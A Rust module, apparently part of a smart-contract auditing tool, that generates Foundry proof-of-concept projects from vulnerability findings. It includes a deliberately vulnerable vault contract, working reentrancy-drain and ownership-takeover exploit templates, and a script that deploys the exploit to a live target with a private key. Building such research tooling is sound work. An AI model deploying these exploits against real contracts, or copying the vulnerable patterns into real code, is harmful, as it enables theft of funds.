//! Foundry PoC scaffold
//!
//! Produces a fixed nine-file Foundry project from a finding:
//!   foundry.toml, .env.example, .gitignore,
//!   src/Exploit.sol, src/Target.sol, src/interfaces/ITarget.sol,
//!   test/ExploitTest.t.sol, script/Deploy.s.sol, README.md
//!
//! Templates carry `{{KEY}}` tokens. The exploit body is selected by
//! vulnerability kind; kinds without a dedicated body use the generic one.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::Path;
use thiserror::Error;

use crate::findings::{Severity, VulnerabilityKind};
use crate::web3::explorer::Network;

const ZERO_ADDRESS: &str = "0x0000000000000000000000000000000000000000";

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PocSpec {
    pub name: String,
    #[serde(rename = "type", default)]
    pub kind: VulnerabilityKind,
    #[serde(default)]
    pub severity: Severity,
    #[serde(default)]
    pub target_contract: String,
    #[serde(default = "default_network")]
    pub network: String,
}

fn default_network() -> String {
    "ethereum".to_string()
}

#[derive(Debug, Error)]
pub enum PocError {
    #[error("unresolved placeholder {token} in {file}")]
    UnresolvedPlaceholder { file: String, token: String },
    #[error("invalid {field}: {reason}")]
    InvalidField {
        field: &'static str,
        reason: &'static str,
    },
    #[error("{0} already contains a Foundry project")]
    AlreadyExists(String),
    #[error("failed to write {path}: {source}")]
    Io {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

#[derive(Debug, Clone, Serialize)]
pub struct PocProject {
    /// Relative path → file contents, ordered by path.
    pub files: BTreeMap<String, String>,
}

impl PocProject {
    pub fn paths(&self) -> Vec<String> {
        self.files.keys().cloned().collect()
    }

    pub fn write_to(&self, dir: &Path) -> Result<(), PocError> {
        let io_err = |path: &Path| {
            let path = path.display().to_string();
            move |source| PocError::Io { path, source }
        };

        if dir.join("foundry.toml").exists() {
            return Err(PocError::AlreadyExists(dir.display().to_string()));
        }
        for (rel, contents) in &self.files {
            let path = dir.join(rel);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent).map_err(io_err(parent))?;
            }
            std::fs::write(&path, contents).map_err(io_err(&path))?;
        }
        Ok(())
    }
}

// ─── Attack Variants ─────────────────────────────────────────────────────────

struct AttackVariant {
    state: &'static str,
    body: &'static str,
    receive: &'static str,
    notes: &'static str,
}

fn attack_variant(kind: &VulnerabilityKind) -> AttackVariant {
    match kind {
        VulnerabilityKind::Reentrancy => AttackVariant {
            state: "uint256 private constant CHUNK = 1 ether;\n    uint256 private reentries;",
            body: "require(msg.value >= CHUNK, \"send at least 1 ether\");\n        target.deposit{value: CHUNK}();\n        target.withdraw(CHUNK);",
            receive: "if (address(target).balance >= CHUNK && reentries < 10) {\n            reentries++;\n            target.withdraw(CHUNK);\n        }",
            notes: "withdraw() transfers ETH before zeroing the caller balance, so receive() re-enters it until the vault is drained.",
        },
        VulnerabilityKind::AccessControl => AttackVariant {
            state: "",
            body: "target.transferOwnership(address(this));\n        require(target.owner() == address(this), \"ownership not taken\");\n        target.sweep(payable(attacker));",
            receive: "",
            notes: "transferOwnership() has no caller check, so any account can take ownership and sweep funds.",
        },
        VulnerabilityKind::FlashLoan => AttackVariant {
            state: "uint256 private constant BORROWED = 1 ether;",
            body: "// Stand-in for a flash loan: the attacker fronts the borrowed amount.\n        require(msg.value >= BORROWED, \"fund the simulated loan\");\n        target.deposit{value: BORROWED}();\n        // ...manipulate state that depends on the inflated balance here...\n        target.withdraw(BORROWED);",
            receive: "",
            notes: "Replace the simulated loan with the lending pool used on the target network and repay inside the same transaction.",
        },
        VulnerabilityKind::OracleManipulation => AttackVariant {
            state: "",
            body: "uint256 spotBefore = target.balanceOf(address(this));\n        target.deposit{value: msg.value}();\n        // ...skew the spot price source read by the target here...\n        require(target.balanceOf(address(this)) >= spotBefore, \"accounting moved backwards\");\n        target.withdraw(target.balanceOf(address(this)));",
            receive: "",
            notes: "Point the manipulation step at the pool or feed the target prices against.",
        },
        VulnerabilityKind::IntegerOverflow => AttackVariant {
            state: "",
            body: "target.deposit{value: msg.value}();\n        // Solidity >= 0.8 reverts on overflow; this path targets unchecked blocks.\n        target.withdraw(msg.value);",
            receive: "",
            notes: "Identify the unchecked arithmetic and craft inputs that wrap it.",
        },
        _ => AttackVariant {
            state: "",
            body: "target.deposit{value: msg.value}();\n        // Replace with the concrete attack sequence.\n        target.withdraw(msg.value);",
            receive: "",
            notes: "Generic scaffold: fill in the attack sequence for this finding.",
        },
    }
}

// ─── Templates ───────────────────────────────────────────────────────────────

const FOUNDRY_TOML: &str = r#"[profile.default]
src = "src"
out = "out"
libs = ["lib"]
solc_version = "0.8.20"
optimizer = true

[rpc_endpoints]
{{NETWORK}} = "${RPC_URL}"
"#;

const ENV_EXAMPLE: &str = r#"# {{NETWORK_NAME}} (chain id {{CHAIN_ID}})
RPC_URL=
PRIVATE_KEY=
TARGET_CONTRACT={{TARGET}}
"#;

const GITIGNORE: &str = r#"out/
cache/
broadcast/
lib/
.env
"#;

const ITARGET_SOL: &str = r#"// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Surface of {{TARGET}} exercised by the {{NAME}} PoC.
interface ITarget {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
    function balanceOf(address account) external view returns (uint256);
    function owner() external view returns (address);
    function transferOwnership(address newOwner) external;
    function sweep(address payable to) external;
}
"#;

const TARGET_SOL: &str = r#"// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./interfaces/ITarget.sol";

/// Local stand-in reproducing the {{TYPE}} weakness for offline testing.
contract Target is ITarget {
    mapping(address => uint256) private balances;
    address private _owner;

    constructor() {
        _owner = msg.sender;
    }

    function deposit() external payable override {
        balances[msg.sender] += msg.value;
    }

    function withdraw(uint256 amount) external override {
        require(balances[msg.sender] >= amount, "insufficient balance");
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
        unchecked {
            balances[msg.sender] -= amount;
        }
    }

    function balanceOf(address account) external view override returns (uint256) {
        return balances[account];
    }

    function owner() external view override returns (address) {
        return _owner;
    }

    function transferOwnership(address newOwner) external override {
        _owner = newOwner;
    }

    function sweep(address payable to) external override {
        require(msg.sender == _owner, "not owner");
        to.transfer(address(this).balance);
    }
}
"#;

const EXPLOIT_SOL: &str = r#"// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./interfaces/ITarget.sol";

/// {{NAME}} - {{TYPE}} ({{SEVERITY}})
/// Target: {{TARGET}} on {{NETWORK}}
contract {{CONTRACT_NAME}}Exploit {
    ITarget public immutable target;
    address public immutable attacker;
    {{ATTACK_STATE}}

    constructor(address _target) {
        target = ITarget(_target);
        attacker = msg.sender;
    }

    modifier onlyAttacker() {
        require(msg.sender == attacker, "not attacker");
        _;
    }

    function attack() external payable onlyAttacker {
        {{ATTACK_BODY}}
    }

    function withdrawLoot() external onlyAttacker {
        payable(attacker).transfer(address(this).balance);
    }

    receive() external payable {
        {{RECEIVE_BODY}}
    }
}
"#;

const EXPLOIT_TEST_SOL: &str = r#"// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "forge-std/Test.sol";
import "../src/Exploit.sol";
import "../src/Target.sol";

contract ExploitTest is Test {
    Target internal target;
    {{CONTRACT_NAME}}Exploit internal exploit;
    address internal victim = address(0xBEEF);

    function setUp() public {
        target = new Target();
        vm.deal(victim, 10 ether);
        vm.prank(victim);
        target.deposit{value: 10 ether}();

        exploit = new {{CONTRACT_NAME}}Exploit(address(target));
        vm.deal(address(this), 1 ether);
    }

    function testExploit() public {
        uint256 targetBefore = address(target).balance;
        exploit.attack{value: 1 ether}();
        emit log_named_uint("target balance before", targetBefore);
        emit log_named_uint("target balance after", address(target).balance);
        emit log_named_uint("exploit balance", address(exploit).balance);
        assertLe(address(target).balance, targetBefore, "{{TYPE}} did not move funds");
    }

    receive() external payable {}
}
"#;

const DEPLOY_SOL: &str = r#"// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "forge-std/Script.sol";
import "../src/Exploit.sol";

contract Deploy is Script {
    function run() external {
        uint256 key = vm.envUint("PRIVATE_KEY");
        address target = vm.envAddress("TARGET_CONTRACT");

        vm.startBroadcast(key);
        {{CONTRACT_NAME}}Exploit exploit = new {{CONTRACT_NAME}}Exploit(target);
        vm.stopBroadcast();

        console.log("exploit deployed at", address(exploit));
    }
}
"#;

const README_MD: &str = r#"# {{NAME}}

| Field | Value |
|---|---|
| Type | {{TYPE}} |
| Severity | {{SEVERITY}} |
| Target | `{{TARGET}}` |
| Network | {{NETWORK_NAME}} (chain id {{CHAIN_ID}}) |

## Summary

{{NOTES}}

## Run locally

```sh
forge install foundry-rs/forge-std --no-commit
forge test -vvv
```

## Run against a fork

```sh
cp .env.example .env   # fill in RPC_URL
forge test -vvv --fork-url $RPC_URL
```

## Deploy

```sh
forge script script/Deploy.s.sol --rpc-url {{NETWORK}} --broadcast
```

This scaffold is generated from a finding and has not been verified against the live contract.
"#;

// ─── Rendering ───────────────────────────────────────────────────────────────

/// Solidity identifier from a free-text name, PascalCase.
fn contract_identifier(name: &str) -> String {
    let mut ident = String::new();
    for word in name.split(|c: char| !c.is_ascii_alphanumeric()) {
        let mut chars = word.chars();
        if let Some(first) = chars.next() {
            ident.push(first.to_ascii_uppercase());
            ident.extend(chars);
        }
    }
    match ident.chars().next() {
        None => "Poc".to_string(),
        Some(c) if c.is_ascii_digit() => format!("Poc{}", ident),
        Some(_) => ident,
    }
}

/// Expand `{{KEY}}` tokens in one pass over the template. Inserted values
/// are never rescanned. `Err` carries the first token with no known key.
fn fill(template: &str, vars: &[(&str, &str)]) -> Result<String, String> {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let Some(end) = after.find("}}") else {
            return Err(rest[start..].chars().take(32).collect());
        };
        let key = &after[..end];
        match vars.iter().find(|(k, _)| *k == key) {
            Some((_, value)) => out.push_str(value),
            None => return Err(format!("{{{{{}}}}}", key)),
        }
        rest = &after[end + 2..];
    }
    out.push_str(rest);
    Ok(out)
}

fn check_field(field: &'static str, value: &str) -> Result<(), PocError> {
    if value.contains("{{") || value.contains("}}") {
        return Err(PocError::InvalidField {
            field,
            reason: "must not contain `{{` or `}}`",
        });
    }
    Ok(())
}

pub fn generate(spec: &PocSpec) -> Result<PocProject, PocError> {
    check_field("name", &spec.name)?;
    check_field("targetContract", &spec.target_contract)?;

    let network = Network::resolve(&spec.network);
    let variant = attack_variant(&spec.kind);
    let contract_name = contract_identifier(&spec.name);
    let target = if spec.target_contract.trim().is_empty() {
        ZERO_ADDRESS.to_string()
    } else {
        spec.target_contract.trim().to_string()
    };
    let chain_id = network.chain_id().to_string();
    let kind_title = spec.kind.title();

    let vars: [(&str, &str); 12] = [
        ("NAME", spec.name.as_str()),
        ("CONTRACT_NAME", contract_name.as_str()),
        ("TYPE", kind_title.as_str()),
        ("SEVERITY", spec.severity.label()),
        ("TARGET", target.as_str()),
        ("NETWORK", network.key()),
        ("NETWORK_NAME", network.display_name()),
        ("CHAIN_ID", chain_id.as_str()),
        ("ATTACK_STATE", variant.state),
        ("ATTACK_BODY", variant.body),
        ("RECEIVE_BODY", variant.receive),
        ("NOTES", variant.notes),
    ];

    let templates: [(&str, &str); 9] = [
        ("foundry.toml", FOUNDRY_TOML),
        (".env.example", ENV_EXAMPLE),
        (".gitignore", GITIGNORE),
        ("src/Exploit.sol", EXPLOIT_SOL),
        ("src/Target.sol", TARGET_SOL),
        ("src/interfaces/ITarget.sol", ITARGET_SOL),
        ("test/ExploitTest.t.sol", EXPLOIT_TEST_SOL),
        ("script/Deploy.s.sol", DEPLOY_SOL),
        ("README.md", README_MD),
    ];

    let mut files = BTreeMap::new();
    for (path, template) in templates {
        let contents = fill(template, &vars).map_err(|token| PocError::UnresolvedPlaceholder {
            file: path.to_string(),
            token,
        })?;
        files.insert(path.to_string(), contents);
    }

    Ok(PocProject { files })
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXPECTED: [&str; 9] = [
        ".env.example",
        ".gitignore",
        "README.md",
        "foundry.toml",
        "script/Deploy.s.sol",
        "src/Exploit.sol",
        "src/Target.sol",
        "src/interfaces/ITarget.sol",
        "test/ExploitTest.t.sol",
    ];

    fn spec(kind: &str) -> PocSpec {
        PocSpec {
            name: "vault drain".into(),
            kind: VulnerabilityKind::parse(kind),
            severity: Severity::Critical,
            target_contract: "0x1234567890abcdef1234567890abcdef12345678".into(),
            network: "polygon".into(),
        }
    }

    #[test]
    fn test_nine_files_without_placeholders_for_every_variant() {
        for kind in [
            "reentrancy",
            "access control",
            "flash loan",
            "oracle manipulation",
            "integer overflow",
            "front-running",
            "something new",
        ] {
            let project = generate(&spec(kind)).unwrap();
            assert_eq!(project.paths(), EXPECTED.to_vec(), "{}", kind);
            for (path, contents) in &project.files {
                assert!(!contents.contains("{{"), "{} leaves a placeholder in {}", kind, path);
            }
        }
    }

    #[test]
    fn test_fields_substituted() {
        let project = generate(&spec("reentrancy")).unwrap();
        let exploit = &project.files["src/Exploit.sol"];
        assert!(exploit.contains("contract VaultDrainExploit"));
        assert!(exploit.contains("target.withdraw(CHUNK);"));
        assert!(exploit.contains("(Critical)"));
        assert!(project.files[".env.example"].contains("TARGET_CONTRACT=0x1234567890abcdef1234567890abcdef12345678"));
        assert!(project.files[".env.example"].contains("chain id 137"));
        assert!(project.files["foundry.toml"].contains(r#"polygon = "${RPC_URL}""#));
        assert!(project.files["README.md"].starts_with("# vault drain"));
    }

    #[test]
    fn test_unknown_network_and_empty_target_defaults() {
        let mut s = spec("reentrancy");
        s.network = "tron".into();
        s.target_contract = "  ".into();
        let project = generate(&s).unwrap();
        assert!(project.files["foundry.toml"].contains("ethereum = "));
        assert!(project.files[".env.example"].contains(ZERO_ADDRESS));
    }

    #[test]
    fn test_contract_identifier() {
        assert_eq!(contract_identifier("vault drain"), "VaultDrain");
        assert_eq!(contract_identifier("1inch-bug"), "Poc1inchBug");
        assert_eq!(contract_identifier("!!!"), "Poc");
    }

    #[test]
    fn test_fill_single_pass() {
        let vars = [("NAME", "{{TARGET}} drain"), ("TARGET", "0xabc")];
        assert_eq!(fill("# {{NAME}} at {{TARGET}}", &vars).unwrap(), "# {{TARGET}} drain at 0xabc");
        assert_eq!(fill("a {{MISSING}} b", &vars), Err("{{MISSING}}".to_string()));
        assert!(fill("dangling {{ brace", &vars).is_err());
        assert_eq!(fill("plain", &vars).unwrap(), "plain");
    }

    #[test]
    fn test_braces_in_user_fields_rejected() {
        for name in ["{{TARGET}} drain", "weird {{ name", "closing }} only"] {
            let mut s = spec("reentrancy");
            s.name = name.into();
            assert!(
                matches!(generate(&s), Err(PocError::InvalidField { field: "name", .. })),
                "{}",
                name
            );
        }
        let mut s = spec("reentrancy");
        s.target_contract = "{{NAME}}".into();
        assert!(matches!(
            generate(&s),
            Err(PocError::InvalidField { field: "targetContract", .. })
        ));
    }

    #[test]
    fn test_write_to_refuses_existing_project() {
        let dir = tempfile::tempdir().unwrap();
        let project = generate(&spec("reentrancy")).unwrap();
        project.write_to(dir.path()).unwrap();
        assert!(dir.path().join("src/interfaces/ITarget.sol").is_file());
        assert!(dir.path().join("test/ExploitTest.t.sol").is_file());

        assert!(matches!(
            project.write_to(dir.path()),
            Err(PocError::AlreadyExists(_))
        ));
    }
}
